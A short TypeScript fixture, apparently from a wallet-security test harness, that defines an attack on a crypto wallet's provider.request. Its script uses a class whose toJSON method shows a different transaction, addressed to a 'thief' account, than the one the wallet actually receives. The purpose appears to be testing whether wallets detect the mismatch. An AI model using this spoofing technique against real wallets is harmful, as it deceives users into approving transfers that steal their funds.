import type { Attack } from '../Attack.ts';

/** toJSON speaks to who judges, the members speak to the wallet. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'toJSON of a class shows another transaction',
  discovers: true,
  script: `
class Transaction { toJSON() { return { from: kit.account, to: kit.thief, data: '0xb0' + kit.marker.slice(2) }; } }
await (await kit.wallet()).request({ method: 'eth_sendTransaction', params: [Object.assign(new Transaction(), kit.tx())] });
`,
  drive: async (stage) => {
    await stage.approve(`b0${stage.marker.slice(2)}`);
  },
};
